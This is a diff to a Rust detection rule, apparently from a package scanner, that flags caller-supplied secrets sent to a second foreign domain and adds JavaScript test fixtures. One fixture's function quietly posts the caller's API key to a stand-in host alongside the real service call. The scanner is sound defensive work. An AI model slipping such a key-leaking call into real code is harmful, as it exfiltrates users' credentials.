@@ -1,7 +1,10 @@
 //! What a caller hands over goes to a host that the package fixed.
 
+use std::collections::BTreeMap;
+
 use super::{Context, Declaration, Example, Finding, host, judge, matrix};
 use crate::api::targets;
+use crate::flow::Flow;
 use crate::model::{Confidence, Origin, Severity};
 
 pub(super) static FINDING: Declaration = Declaration {
@@ -95,6 +98,38 @@ exports.send = (text, privateKey) => fetch("https://node.example/", { method: "P
             ],
         },
         Example {
+            name: "the key of one service goes to a second one as well",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.charge = (key, amount) => {
+  fetch("https://errors.other.invalid/e", { method: "POST", body: JSON.stringify({ key, amount }) });
+  return fetch("https://api.service.example/v1/charges", { method: "POST", headers: { authorization: key }, body: amount });
+};"#,
+                ),
+            ],
+        },
+        Example {
+            name: "the key of a service goes to two of its hosts",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"exports.charge = (key, amount) => fetch("https://api.service.example/v1/charges", { method: "POST", headers: { authorization: key }, body: amount });
+exports.upload = (key, file) => fetch("https://files.service.example/v1", { method: "POST", headers: { authorization: key }, body: file });"#,
+                ),
+            ],
+        },
+        Example {
             name: "a client posts what it is given to its service",
             severity: None,
             files: &[
@@ -157,7 +192,43 @@ const COLLECTORS: [&str; 6] = [
     "anonymous",
 ];
 
+/// How many flows take a secret of one name to each domain that the package fixed.
+type Domains = BTreeMap<(String, String), usize>;
+
+fn secret_domains(context: &Context<'_>) -> Domains {
+    let mut domains = Domains::new();
+    for flow in context.flows {
+        if let Some(to) = secret_domain(context, flow) {
+            *domains.entry(to).or_default() += 1;
+        }
+    }
+    domains
+}
+
+/// The name of a secret that a caller hands over, and the foreign domain that it is sent to.
+fn secret_domain(context: &Context<'_>, flow: &Flow) -> Option<(String, String)> {
+    let name = flow
+        .source
+        .target
+        .as_deref()
+        .filter(|name| is_secret(name))?;
+    let at = host::host(flow.sink.target.as_deref()?)?;
+    let is_foreign = matrix::taker(&context.home, flow) == Some("foreign");
+    (flow.id == "parameter-to-network" && is_foreign)
+        .then(|| (plain(name), host::registered(&at).to_owned()))
+}
+
+/// Whether a secret goes to another domain more often: that is the service that it belongs to.
+fn is_second(domains: &Domains, to: &(String, String)) -> bool {
+    let own = domains.get(to).copied().unwrap_or(0);
+    let mut others = domains
+        .iter()
+        .filter(|((name, at), _)| *name == to.0 && *at != to.1);
+    others.any(|(_, &count)| count >= own)
+}
+
 fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
+    let domains = secret_domains(context);
     for flow in context.flows {
         let is_request = flow.id == "request-to-network";
         if !is_request && flow.id != "parameter-to-network" {
@@ -176,10 +247,14 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         let is_key = is_key(name) || (is_request && is_login(name));
         let collects = COLLECTORS.contains(&taker);
         let is_hidden = flow.sink.origin.has(Origin::Decoded);
+        let to = secret_domain(context, flow);
+        let is_doubled = to.is_some_and(|to| is_second(&domains, &to));
         let severity = match taker {
             "own" | "registry" | "local" | "callers" | "unknown" => continue,
             _ if is_key && (collects || is_hidden) => Severity::Critical,
             _ if is_key => Severity::High,
+            // One service gets its own key; a second one has no use for it.
+            "foreign" if is_doubled => Severity::High,
             _ if is_request && is_hidden => Severity::High,
             _ if collects || is_request => Severity::Medium,
             _ => continue,
@@ -207,6 +282,12 @@ fn plain(name: &str) -> String {
         .filter(char::is_ascii_alphanumeric)
         .map(|c| c.to_ascii_lowercase())
         .collect()
+}
+
+/// Whether a name says that something lets its holder in somewhere.
+fn is_secret(name: &str) -> bool {
+    let plain = plain(name);
+    plain == "key" || is_login(name) || is_key(name) || plain.contains("secret")
 }
 
 fn is_login(name: &str) -> bool {
